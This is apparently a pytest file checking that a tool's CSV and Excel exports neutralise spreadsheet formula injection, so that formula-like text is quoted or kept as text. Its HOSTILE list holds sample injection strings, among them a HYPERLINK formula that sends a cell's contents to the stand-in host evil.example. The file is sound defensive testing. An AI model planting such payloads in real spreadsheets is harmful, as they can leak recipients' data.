"""Text that starts like a formula never runs as one in an export: quoted in CSV, typed as text in .xlsx
(so an exported action plan re-imports unchanged)."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from csinspect.cells import append_xlsx_row, csv_safe, set_xlsx_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_quotes_formula_text(text: str) -> None:
    assert csv_safe(text) == "'" + text


def test_csv_leaves_numbers_dates_and_plain_text() -> None:
    assert [csv_safe(v) for v in (-5, 2.5, date(2026, 1, 1), "Caseloads reduced", None)] == [
        -5, 2.5, date(2026, 1, 1), "Caseloads reduced", None,
    ]  # fmt: skip


def test_xlsx_keeps_formula_text_as_text(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for i, text in enumerate(HOSTILE, start=1):
        set_xlsx_cell(ws, i, 1, text)
    set_xlsx_cell(ws, 1, 2, -7)
    path = tmp_path / "a.xlsx"
    wb.save(path)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere
    back = load_workbook(path).active
    assert back is not None
    assert [back.cell(row=i, column=1).value for i in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert back.cell(row=1, column=2).value == -7


def test_write_only_sheets_too(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("rows")
    append_xlsx_row(ws, ["id", "note"])
    append_xlsx_row(ws, [1, HOSTILE[0]])
    path = tmp_path / "w.xlsx"
    wb.save(path)
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert load_workbook(path)["rows"]["B2"].value == HOSTILE[0]
